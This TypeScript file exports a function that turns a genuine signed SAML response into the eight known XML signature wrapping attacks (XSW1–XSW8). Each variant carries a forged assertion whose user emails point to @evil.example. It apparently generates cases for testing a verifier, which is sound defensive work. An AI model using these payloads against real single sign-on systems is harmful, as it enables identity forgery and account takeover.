/**
 * The eight signature wrapping attacks that are possible without the key: the signed part of a genuine response is
 * moved, and a forged one is put in its place.
 */
export const wrapped = (genuine: string): [string, string][] => {
  const [, open = '', issuer = '', signature = '', status = '', assertion = ''] =
    /^(<samlp:Response[^>]*>)(<saml:Issuer[^]*?<\/saml:Issuer>)(<ds:Signature[^]*?<\/ds:Signature>)(<samlp:Status>[^]*<\/samlp:Status>)(<saml:Assertion[^]*<\/saml:Assertion>)/.exec(
      genuine,
    ) ?? [];
  const [inner = ''] = /<ds:Signature [^]*?<\/ds:Signature>/.exec(assertion) ?? [];
  const bare = assertion.replace(inner, '');
  const forged = bare.replace(/ ID="[^"]*"/, ' ID="_forged"').replaceAll('@northlab.org', '@evil.example');
  const forgedOpen = open.replace(/ ID="[^"]*"/, ' ID="_forgedResponse"');
  const response = (...children: string[]) => `${children.join('')}</samlp:Response>`;
  const original = response(open, issuer, status, assertion);
  const inside = (xml: string, element: string, content: string) =>
    xml.replace(`</${element}>`, `${content}</${element}>`);
  const withSignature = (moved: string) => forged.replace('<saml:Subject>', `${moved}<saml:Subject>`);
  return [
    ['XSW1', response(forgedOpen, issuer, inside(signature, 'ds:Signature', original), status, forged)],
    ['XSW2', response(forgedOpen, issuer, original, signature, status, forged)],
    ['XSW3', response(open, issuer, signature, status, forged, assertion)],
    ['XSW4', response(open, issuer, signature, status, inside(forged, 'saml:Assertion', assertion))],
    ['XSW5', response(open, issuer, signature, status, withSignature(inner), bare)],
    ['XSW6', response(open, issuer, signature, status, withSignature(inside(inner, 'ds:Signature', bare)))],
    ['XSW7', response(open, issuer, signature, `<samlp:Extensions>${forged}</samlp:Extensions>`, status, assertion)],
    [
      'XSW8',
      response(
        open,
        issuer,
        signature,
        status,
        withSignature(inside(inner, 'ds:Signature', `<ds:Object>${bare}</ds:Object>`)),
      ),
    ],
  ];
};
